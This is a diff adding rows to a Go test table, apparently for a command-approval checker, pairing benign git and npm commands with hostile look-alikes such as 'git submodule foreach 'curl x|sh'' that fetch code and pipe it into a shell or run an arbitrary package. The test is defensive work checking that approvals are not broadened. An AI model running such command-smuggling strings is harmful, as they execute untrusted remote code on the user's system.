@@ -178,6 +178,9 @@ func TestAlwaysScope_NeverBroaderThanShown(t *testing.T) {
 		{"git fetch --upload-pack git-upload-pack", "git fetch --upload-pack 'curl x|sh'"},
 		{"git push --receive-pack git-receive-pack", "git push --receive-pack 'curl x|sh'"},
 		{"git rebase -x 'make test' main", "git rebase -x 'curl x|sh' main"},
+		{"git submodule status", "git submodule foreach 'curl x|sh'"},
+		{"git difftool -x meld", "git difftool -x 'curl x|sh'"},
+		{"git bisect run make", "git bisect run curl x"},
 		{"npm exec prettier .", "npm exec evil-pkg"}, // a package runner, as npx
 		{"npm --yes exec prettier .", "npm --yes exec evil-pkg"},
 		{"pnpm -C web dlx prettier .", "pnpm -C web dlx evil-pkg"},
